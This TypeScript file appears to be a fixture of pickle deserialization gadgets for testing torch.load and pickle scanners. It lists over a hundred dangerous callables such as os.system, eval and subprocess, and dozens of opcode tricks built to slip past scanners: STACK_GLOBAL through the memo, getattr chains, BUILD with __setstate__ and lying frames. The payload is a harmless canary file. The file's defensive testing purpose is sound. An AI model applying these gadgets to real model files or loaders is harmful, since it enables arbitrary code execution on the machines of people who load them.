// Forms of attack by pickle that were published for torch.load, pickle.load and the scanners beside them. Each would make Python run
// the command; each is a piece that leaves one value on the stack.

import { call, global, text, tuple, uint32 } from './pickleBytes.ts';

/** The command that a gadget would run: it makes the canary. */
export const canary = 'vit-goldens-pwned';
const command = text(`touch "\${TMPDIR:-/tmp}/${canary}"`);
const code = text(`open('${canary}', 'w')`);

// module, name: called by REDUCE with the command.
const functions = [
  'os system', 'posix system', 'nt system', 'os popen', 'os execv', 'os spawnvp', 'os posix_spawn', 'os remove', 'subprocess Popen',
  'subprocess check_output', 'subprocess call', 'subprocess getoutput', 'builtins eval', 'builtins exec', 'builtins compile',
  'builtins __import__', 'builtins open', 'builtins breakpoint', 'builtins setattr', 'builtins map', '__builtin__ eval',
  '__builtin__ execfile', '__builtin__ apply', 'runpy run_path', 'runpy _run_code', 'pty spawn', 'platform popen',
  'commands getoutput', 'popen2 popen3', 'shutil rmtree', 'webbrowser open', 'importlib import_module',
  'importlib.machinery SourceFileLoader', 'imp load_source', 'pkgutil resolve_name', 'code interact', 'code InteractiveInterpreter',
  'pdb run', 'bdb Bdb', 'cProfile run', 'cProfile runctx', 'profile run', 'trace Trace', 'timeit timeit', 'doctest debug_script',
  'pydoc pipepager', 'pydoc locate', 'pip main', 'pip._internal main', 'ensurepip _run_pip', 'venv create',
  'asyncio.unix_events _UnixSubprocessTransport._start', 'multiprocessing.util spawnv_passfds', 'ctypes CDLL',
  'torch load', 'torch.hub load', 'torch.jit.unsupported_tensor_ops execWrapper', 'torch.jit load',
  'torch.utils._config_module load_config', 'torch.utils.bottleneck.__main__ run_cprofile', 'torch.utils.collect_env run',
  'torch.utils.data.datapipes.utils.decoder basichandlers', 'torch._dynamo.guards GuardBuilder.get',
  'torch.fx.experimental.symbolic_shapes ShapeEnv.evaluate_guards_expression', 'torch._inductor.codecache compile_file',
  'torch.serialization load', 'torch.storage _load_from_bytes', 'torch.distributed.run main', 'numpy load',
  'numpy.testing._private.utils runstring', 'numpy.f2py.crackfortran getlincoef', 'numpy.f2py.crackfortran myeval',
  'pandas read_pickle', 'pandas.io.pickle read_pickle', 'pickle loads', '_pickle loads', 'cPickle loads', 'dill loads',
  'cloudpickle loads', 'joblib load', 'marshal loads', 'shelve open', 'types FunctionType', 'types CodeType',
  'operator attrgetter', 'operator methodcaller', '_operator attrgetter', 'functools reduce',
  'idlelib.pyshell ModifiedInterpreter.runcode', 'idlelib.run Executive.runcode', 'lib2to3.pgen2.grammar Grammar.loads',
  'distutils.file_util write_file', 'setuptools.sandbox run_setup', 'logging.config listen', 'linecache getline',
  'urllib.request urlopen', 'http.client HTTPSConnection', 'requests get', 'aiohttp request', 'socket create_connection',
  'ssl get_server_certificate', 'smtplib SMTP', 'ftplib FTP', 'sys exit', 'signal signal', 'threading Thread', 'tempfile mktemp',
  '_io FileIO', 'io open_code', 'tarfile open', 'sqlite3 connect', 'nltk.data load', 'contextlib ExitStack', 'atexit register',
]; // prettier-ignore

const run = call('posix', 'system', command);
const stackGlobal = (module: string, name: string) => `${text(module)}${text(name)}\x93`;
const byAttribute = (owner: string, name: string) => call('builtins', 'getattr', owner, text(name));

// The same call by other opcodes and from other places.
const structures: Readonly<Record<string, string>> = {
  INST: `(${command}iposix\nsystem\n`,
  OBJ: `(${global('posix', 'system')}${command}o`,
  NEWOBJ: `${global('posix', 'system')}${tuple(command)}\x81`,
  NEWOBJ_EX: `${global('posix', 'system')}${tuple(command)}}\x92`,
  STACK_GLOBAL: `${stackGlobal('posix', 'system')}${tuple(command)}R`,
  'STACK_GLOBAL with names from the memo': `${text('posix')}q\x090${text('system')}q\x0a0h\x09h\x0a\x93${tuple(command)}R`,
  'STACK_GLOBAL through another module': `${stackGlobal('torch.serialization', 'os.system')}${tuple(command)}R`,
  'STACK_GLOBAL through a class': `${stackGlobal('builtins', 'object.__subclasses__')})R`,
  'a name of builtins under another module': `${stackGlobal('torch', '__builtins__.eval')}${tuple(code)}R`,
  'getattr of a module': `${byAttribute(call('builtins', '__import__', text('os')), 'system')}${tuple(command)}R`,
  'getattr of a class': `${byAttribute(global('torch', 'FloatStorage'), '__class__')})R`,
  'getattr chain': `${byAttribute(byAttribute(global('torch', 'Tensor'), '__init__'), '__globals__')})R`,
  'getattr with a hostile name': `${byAttribute(global('torch', 'serialization'), 'os')})R`,
  'functools.partial': `${call('functools', 'partial', global('posix', 'system'), command)})R`,
  'called by map': call('builtins', 'map', global('posix', 'system'), `](${command}e`),
  'BUILD with a state': `${global('argparse', 'Namespace')})\x81}${text('__reduce__')}${global('posix', 'system')}sb`,
  'BUILD with __setstate__': `${global('argparse', 'Namespace')})\x81}${text('__setstate__')}${global('posix', 'system')}sb${command}b`,
  'taken off the stack again': `${run}0N`,
  'behind a mark that is dropped': `(${run}1N`,
  'twice by DUP': `${run}2\x86`,
  'in a tuple of one': `${run}\x85`,
  'as the key of a dictionary': `}${run}Ns`,
  'in a list': `](${run}e`,
  'in a set': `\x8f(${run}\x90`,
  'in a frozenset': `(${run}\x91`,
  'in arguments of a dictionary': call('collections', 'OrderedDict', `](${tuple(text('a'), run)}e`),
  'as the factory of a defaultdict': call('collections', 'defaultdict', global('posix', 'system')),
  'in arguments of another call': call('torch._utils', '_rebuild_parameter', run, '\x89', 'N'),
  'as the function of a tensor subclass': call(
    'torch._tensor',
    '_rebuild_from_type_v2',
    global('posix', 'system'),
    global('torch', 'Tensor'),
    tuple(command),
    'N',
  ),
  'in the class of _reconstructor': call(
    'copy_reg',
    '_reconstructor',
    global('os', '_wrap_close'),
    global('builtins', 'object'),
    'N',
  ),
  'with text of protocol 0': `cposix\nsystem\n(S'touch ${canary}'\ntR`,
  'with Unicode of protocol 0': `cposix\nsystem\n(Vtouch ${canary}\ntR`,
  'in a frame that lies': `\x95${uint32(3)}${uint32(0)}${run}`,
  'an extension of copyreg': `\x82\x01${tuple(command)}R`,
  'a long memo number': `${run}r${uint32(0x7fffffff)}0j${uint32(0x7fffffff)}`,
  'with a carriage return': `cposix\r\nsystem\r\n${tuple(command)}R`,
};

/** Every gadget by what it is. */
export const gadgets: ReadonlyMap<string, string> = new Map([
  ...functions.map((one): [string, string] => {
    const [module = '', name = ''] = one.split(' ');
    return [`${module}.${name}`, call(module, name, command)];
  }),
  ...Object.entries(structures),
]);
